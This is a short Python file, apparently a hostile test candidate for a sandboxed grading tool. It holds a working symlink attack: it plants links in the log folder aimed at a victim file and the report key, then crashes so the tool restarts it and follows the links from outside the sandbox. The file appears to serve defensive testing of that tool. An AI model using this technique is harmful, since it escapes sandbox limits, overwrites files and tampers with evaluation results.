"""Symlinks planted where the tool writes and reads the candidate's logs and outputs: on its
first case the candidate points the next restart's stdout log at a victim file and its own
stderr log at the report key, leaves a link in a case's output folder, and dies, so the tool
restarts it (the route the hostile review found: the tool, outside the sandbox, would follow
them)."""
import os
import sys
from pathlib import Path

from gamma7_base import Gamma7

OUT = Path(sys.argv[2]) if len(sys.argv) > 2 else None


class LinkPlanter(Gamma7):
    def run_case(self, config, loss, weights, inputs):
        logs = OUT / ".logs"
        if not (OUT / ".planted").exists():
            (OUT / ".planted").write_text("1")
            logs.mkdir(exist_ok=True)
            for name, target in (("stdout-2.txt", os.environ["VICTIM"]),
                                 ("stderr-1.txt", os.environ["KEY_FILE"])):
                try:
                    os.symlink(target, logs / name)
                except OSError:
                    pass
            os._exit(1)
        return super().run_case(config, loss, weights, inputs)


candidate = LinkPlanter
